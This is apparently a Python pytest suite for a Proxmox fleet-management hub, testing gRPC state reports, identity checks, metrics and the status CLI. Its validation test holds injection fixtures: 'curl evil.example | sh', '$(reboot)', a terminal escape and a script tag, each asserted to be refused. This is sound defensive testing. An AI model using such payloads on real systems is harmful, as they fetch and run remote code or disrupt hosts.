"""The fleet view at the hub over real gRPC: ReportState (full, delta, needs_full, limits, identity), GetNode, Status's
new fields and staleness, the fleet's metrics on a real /metrics, and `pve-hub status` through the real CLI."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest

from common.grpcserver import ClientTls, ServerTls, channel_credentials
from hub import fleet
from hub.cli import main, parser
from hub.store import PostgresStore, SqliteStore
from hub.v1 import hub_pb2 as pb
from hub.v1 import hub_pb2_grpc as pb_grpc
from tests.hub_helpers import CLUSTER, Hub, running_hub
from tests.test_hub_service import _node_pki, pve_hub, refused

ROOT = Path(__file__).resolve().parent.parent
NODE = "n1@lab"
DESCRIPTOR = b'{"audience":"n1@lab","class":"DESTRUCTIVE","kind":"config.disk_detach","vmid":102}'


@pytest.fixture(name="hub")
def _hub(tmp_path: Path) -> Iterator[Hub]:
    with running_hub(SqliteStore.in_dir(tmp_path / "state"), heartbeat=0.2, metrics_listen="127.0.0.1:0",
                     ) as hub:
        yield hub


def drifted(vmid: int = 101) -> pb.GuestState:
    """A guest whose memory differs: declared 4096, actual 2048."""
    return pb.GuestState(vmid=vmid, name="db", type="qemu", state=pb.SYNC_STATE_DRIFTED,
                         diffs=[pb.KeyDiff(key="memory", declared="4096", actual="2048")])


def waiting(vmid: int = 102, node: str = NODE) -> pb.GuestState:
    """A guest with a change waiting for a signed op."""
    return pb.GuestState(vmid=vmid, name="<script>alert(1)</script>", type="qemu",
                         state=pb.SYNC_STATE_PENDING_APPROVAL,
                         diffs=[pb.KeyDiff(key="scsi1", declared="", declared_absent=True, actual="local:1")],
                         pending=[pb.PendingApproval(node=node, vmid=vmid, op_kind="config.disk_detach",
                                                     action_class="DESTRUCTIVE", rule="disk_detach",
                                                     descriptor=DESCRIPTOR,
                                                     descriptor_sha256=hashlib.sha256(DESCRIPTOR).hexdigest(),
                                                     audience=node)])


def forged(**changes: object) -> pb.GuestState:
    """A waiting guest whose pending approval a hostile node changed."""
    guest = waiting()
    for name, value in changes.items():
        setattr(guest.pending[0], name, value)
    return guest


def report(seq: int, *guests: pb.GuestState, full: bool = True, base: int = 0, node: str = NODE,
           session: str = "s1", interval: float = 10.0, **more: object) -> pb.StateReport:
    """A StateReport from ``node``."""
    return pb.StateReport(cluster=CLUSTER, node=node, audience=node, session=session, seq=seq, base_seq=base,
                          full=full, guests=list(guests), interval_seconds=interval, held_version=1,
                          tick_outcome="ok", at_unix_ms=int(time.time() * 1000), **more)  # type: ignore[arg-type]


def counts(status: pb.NodeStatus) -> dict[str, int]:
    """A status line's guests by state name."""
    return {pb.SyncState.Name(c.state).removeprefix("SYNC_STATE_").lower(): c.count for c in status.guests}


def test_reports_full_then_delta_then_get_node_and_status(hub: Hub) -> None:
    """A full report, a delta on top (guest changed, one removed, an op's fate moved); GetNode returns the guests as
    sent and the ops; Status counts guests by state; a delta on another base is answered needs_full."""
    op = pb.OpReport(op_id="a" * 32, vmid=101, op_kind="config.disk_detach", fate="waiting", at_unix_ms=5)
    first = hub.stub.ReportState(report(1, pb.GuestState(vmid=100, state=pb.SYNC_STATE_IN_SYNC), drifted(),
                                        waiting(), ops=[op]), timeout=10)
    assert (first.needs_full, first.recorded_seq) == (False, 1)
    ran = pb.OpReport(op_id="a" * 32, vmid=101, op_kind="config.disk_detach", fate="ran", outcome="ok", at_unix_ms=9)
    second = hub.stub.ReportState(report(2, pb.GuestState(vmid=101, state=pb.SYNC_STATE_IN_SYNC), full=False, base=1,
                                         removed_vmids=[100], ops=[ran]), timeout=10)
    assert (second.needs_full, second.recorded_seq) == (False, 2)
    stray = hub.stub.ReportState(report(4, drifted(), full=False, base=3), timeout=10)
    assert (stray.needs_full, stray.recorded_seq) == (True, 2)
    node = hub.stub.GetNode(pb.GetNodeRequest(cluster=CLUSTER, node=NODE), timeout=10)
    assert [(g.vmid, g.state) for g in node.guests] == [(101, pb.SYNC_STATE_IN_SYNC),
                                                         (102, pb.SYNC_STATE_PENDING_APPROVAL)]
    assert node.guests[1] == waiting() and [(o.op_id, o.fate, o.outcome) for o in node.ops] == [("a" * 32, "ran", "ok")]
    assert (node.status.audience, node.status.report_interval_seconds, node.status.stale) == (NODE, 10.0, False)
    [line] = hub.stub.Status(pb.StatusRequest(cluster=CLUSTER), timeout=10).nodes
    assert counts(line) == {"in_sync": 1, "pending_approval": 1} and line.tick_outcome == "ok"
    assert line.last_report_unix_ms > (time.time() - 60) * 1000
    error = refused(hub.stub.GetNode, pb.GetNodeRequest(cluster=CLUSTER, node="n9@lab"))
    assert error.code() == grpc.StatusCode.NOT_FOUND


@pytest.mark.parametrize(("request_", "field"), [
    (report(1, full=True, base=3), "base_seq"),
    (report(0), "seq"),
    (report(1, session=""), "session"),
    (report(1, interval=0), "interval_seconds"),
    (report(1, pb.GuestState(vmid=100)), "guests[0].state"),
    (report(1, pb.GuestState(vmid=0, state=pb.SYNC_STATE_IN_SYNC)), "guests[0].vmid"),
    (report(1, ops=[pb.OpReport(op_id="nope", fate="ran")]), "ops[0].op_id"),
    (report(1, node="bad node"), "node"),
    # A pending approval's words go into the commands `pve-hub pending` and the web page print for pasting.
    (report(1, forged(descriptor_sha256="0; curl evil.example | sh")), "guests[0].pending[0].descriptor_sha256"),
    (report(1, forged(descriptor=b"{}")), "guests[0].pending[0].descriptor_sha256"),
    (report(1, forged(op_kind="x$(reboot)")), "guests[0].pending[0].op_kind"),
    (report(1, forged(rule="r\x1b]0;t\x07")), "guests[0].pending[0].rule"),
    (report(1, forged(action_class="SAFE")), "guests[0].pending[0].action_class"),
])
def test_a_bad_report_names_the_field(hub: Hub, request_: pb.StateReport, field: str) -> None:
    """INVALID_ARGUMENT naming the field; nothing recorded."""
    error = refused(hub.stub.ReportState, request_)
    assert error.code() == grpc.StatusCode.INVALID_ARGUMENT and error.details().startswith(f"{field}: ")
    assert hub.store.node_states() == []


def test_a_report_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    """Over the hub's limit: INVALID_ARGUMENT naming the report's size; nothing recorded."""
    with running_hub(SqliteStore.in_dir(tmp_path / "state")) as hub:
        hub.running.servicer.max_report_bytes = 1024
        big = report(1, *(drifted(vmid) for vmid in range(100, 200)))
        error = refused(hub.stub.ReportState, big)
        assert error.code() == grpc.StatusCode.INVALID_ARGUMENT
        assert re.match(r"report: \d+ bytes, over the limit of 1024", error.details())
        assert hub.store.node_states() == []


def test_with_mutual_tls_a_node_reports_only_for_itself(tmp_path: Path) -> None:
    """ReportState for the certificate's node passes; for another node, or another node's audience:
    PERMISSION_DENIED, nothing recorded."""
    pki, both, where = _node_pki(tmp_path / "pki")
    tls = ServerTls(cert=pki.server_cert, key=pki.server_key, client_ca=both)
    with running_hub(SqliteStore.in_dir(tmp_path / "state"), tls=tls) as hub:
        credentials = channel_credentials(ClientTls(ca=pki.ca, cert=f"{where}/n1.pem", key=f"{where}/n1.key"))
        with grpc.secure_channel(f"127.0.0.1:{hub.running.port}", credentials) as channel:
            stub = pb_grpc.HubServiceStub(channel)
            assert not stub.ReportState(report(1, drifted()), timeout=10).needs_full
            error = refused(stub.ReportState, report(1, drifted(), node="n2@lab"))
            assert error.code() == grpc.StatusCode.PERMISSION_DENIED and "n1@lab" in error.details()
            # Its own node, another's audience: signed ops for n2 are routed by audience, so it would take them.
            claim = report(2, drifted(), base=1, full=False)
            claim.audience = "n2@lab"
            error = refused(stub.ReportState, claim)
            assert error.code() == grpc.StatusCode.PERMISSION_DENIED and error.details().startswith("audience: n2@lab")
        assert [s.node for s in hub.store.node_states()] == [NODE]
        assert hub.store.node_for_audience(CLUSTER, "n2@lab") is None


def test_a_node_silent_for_two_intervals_is_stale(hub: Hub) -> None:
    """No report for two of its intervals: Status says stale; the next report clears it."""
    hub.stub.ReportState(report(1, drifted(), interval=0.2), timeout=10)
    assert not hub.stub.Status(pb.StatusRequest(cluster=CLUSTER), timeout=10).nodes[0].stale
    time.sleep(0.5)
    assert hub.stub.Status(pb.StatusRequest(cluster=CLUSTER), timeout=10).nodes[0].stale
    hub.stub.ReportState(report(1, drifted(), interval=0.2, session="s2"), timeout=10)
    assert not hub.stub.Status(pb.StatusRequest(cluster=CLUSTER), timeout=10).nodes[0].stale


def scrape(hub: Hub) -> str:
    """The hub's /metrics text."""
    assert hub.running.metrics_endpoint is not None
    with urllib.request.urlopen(f"http://127.0.0.1:{hub.running.metrics_endpoint.port}/metrics", timeout=10) as answer:
        return str(answer.read().decode())


def sample(text: str, name: str, **labels: str) -> float:
    """One sample's value in a /metrics text (fails when absent)."""
    want = ",".join(f'{key}="{value}"' for key, value in sorted(labels.items()))
    for line in text.splitlines():
        metric, _, value = line.rpartition(" ")
        base, _, rest = metric.partition("{")
        if base == name and ",".join(sorted(rest.rstrip("}").split(","))) == want:
            return float(value)
    raise AssertionError(f"{name}{{{want}}} not in /metrics")


def test_fleet_metrics_are_read_from_the_store(hub: Hub) -> None:
    """Nodes by state, guests by sync state, approvals waiting, report age and reports received, read from the store at
    scrape time (a report recorded by another replica counts as well)."""
    hub.stub.ReportState(report(1, drifted(), waiting()), timeout=10)
    hub.stub.Report(pb.ReportRequest(cluster=CLUSTER, node="n2@lab", version=1, ok=False, reason="ROLLBACK"),
                    timeout=10)
    hub.store.record_state(fleet.to_state_in(  # as another replica would: straight into the database
        report(1, pb.GuestState(vmid=300, state=pb.SYNC_STATE_IN_SYNC), node="n3@lab", interval=0.01)))
    time.sleep(0.05)
    text = scrape(hub)
    assert sample(text, "pve_hub_nodes", state="ok") == 1 and sample(text, "pve_hub_nodes", state="stale") == 1
    assert sample(text, "pve_hub_nodes", state="nack") == 1
    assert sample(text, "pve_hub_guests", state="drifted") == 1 and sample(text, "pve_hub_guests", state="in_sync") == 1
    assert sample(text, "pve_hub_guests", state="refused") == 0
    assert sample(text, "pve_hub_pending_approvals") == 1
    assert 0 <= sample(text, "pve_hub_report_age_seconds", cluster=CLUSTER, node=NODE) < 30
    assert sample(text, "pve_hub_state_reports_total", kind="full", outcome="applied") == 1


def test_the_grafana_dashboard_queries_only_metrics_the_hub_serves(hub: Hub) -> None:
    """Every metric name in deploy/grafana-fleet.json's panel queries is on a real hub's /metrics."""
    hub.stub.ReportState(report(1, drifted()), timeout=10)
    served = {line.split("{")[0].split(" ")[0] for line in scrape(hub).splitlines() if line and line[0] != "#"}
    dashboard = json.loads((ROOT / "deploy" / "grafana-fleet.json").read_text(encoding="utf-8"))
    queries = [target["expr"] for panel in dashboard["panels"] for target in panel.get("targets", [])]
    names = {name for expr in queries for name in re.findall(r"\b(pve_hub_[a-z_]+)", expr)}
    assert queries and names and names <= served, names - served


def test_pve_hub_status_exit_codes_and_json(hub: Hub, tmp_path: Path) -> None:
    """The real CLI: 0 all in sync (--json, the same words); 3 drift being converged; 1 the hub unreachable; 2 usage,
    and --help's epilog names the codes."""
    common = ["--hub", hub.address, "--cluster", CLUSTER]
    hub.stub.ReportState(report(1, pb.GuestState(vmid=100, state=pb.SYNC_STATE_IN_SYNC),
                                pb.GuestState(vmid=200, state=pb.SYNC_STATE_ELSEWHERE)), timeout=10)
    done = pve_hub("status", *common, "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    shown = json.loads(done.stdout)
    assert shown["exit_code"] == 0 and shown["nodes"][0]["guests"] == {"in_sync": 1, "elsewhere": 1}
    assert (shown["nodes"][0]["node"], shown["nodes"][0]["stale"], shown["nodes"][0]["report"]) == (NODE, False, None)
    hub.stub.ReportState(report(2, drifted(), full=False, base=1), timeout=10)
    done = pve_hub("status", *common, "--node", NODE, "--json")
    assert done.returncode == 3, done.stdout + done.stderr
    [guest] = [g for g in json.loads(done.stdout)["guests"] if g["vmid"] == 101]
    assert (guest["state"], guest["diffs"]) == ("drifted", [{"key": "memory", "declared": "4096", "actual": "2048"}])
    done = pve_hub("status", "--hub", "127.0.0.1:1", "--cluster", CLUSTER)
    assert done.returncode == 1 and "unavailable" in done.stderr and "Traceback" not in done.stderr, done.stderr
    with pytest.raises(SystemExit) as usage:  # argparse's own exit, in-process: a subprocess would add a second
        main(["status", "--cluster", CLUSTER, "--no-such-flag"])
    assert usage.value.code == 2
    assert "4 an operator is needed" in " ".join(parser_help("status").split())


def parser_help(command: str) -> str:
    """``pve-hub COMMAND --help``'s text (argparse prints it and exits 0)."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out), pytest.raises(SystemExit) as done:
        parser().parse_args([command, "--help"])
    assert done.value.code == 0
    return out.getvalue()


def test_two_replicas_on_postgresql_agree_on_the_fleet(pg_server: Any) -> None:
    """A report to replica A is B's too: B's GetNode, Status and /metrics show it (the gauges come from the database);
    B applies the node's next delta on top of what A recorded."""
    conninfo = pg_server.create_database(f"hub_fleet_{os.getpid()}")
    with running_hub(PostgresStore(conninfo), metrics_listen="127.0.0.1:0") as a, \
            running_hub(PostgresStore(conninfo), metrics_listen="127.0.0.1:0") as b:
        assert not a.stub.ReportState(report(1, drifted(), waiting()), timeout=10).needs_full
        assert not b.stub.ReportState(report(2, full=False, base=1, removed_vmids=[102]), timeout=10).needs_full
        node = b.stub.GetNode(pb.GetNodeRequest(cluster=CLUSTER, node=NODE), timeout=10)
        assert [g.vmid for g in node.guests] == [101] and node.status.report_interval_seconds == 10.0
        for hub in (a, b):
            text = scrape(hub)
            assert sample(text, "pve_hub_guests", state="drifted") == 1
            assert sample(text, "pve_hub_pending_approvals") == 0 and sample(text, "pve_hub_nodes", state="ok") == 1


def test_pending_approvals_are_taken_in_turn_from_each_node_up_to_the_budget() -> None:
    """A node with many approvals takes the budget only after every other node had its turn; the rest is counted."""
    def item(node: str, vmid: int) -> pb.PendingApproval:
        return pb.PendingApproval(node=node, vmid=vmid, descriptor=b"x" * 100)

    flood = [item("a", vmid) for vmid in range(100, 150)]
    size = flood[0].ByteSize()
    taken, omitted = fleet.fair_share({"a": flood, "b": [item("b", 7)]}, budget=3 * size)
    assert [(entry.node, entry.vmid) for entry in taken] == [("a", 100), ("a", 101), ("b", 7)]
    assert omitted == 48
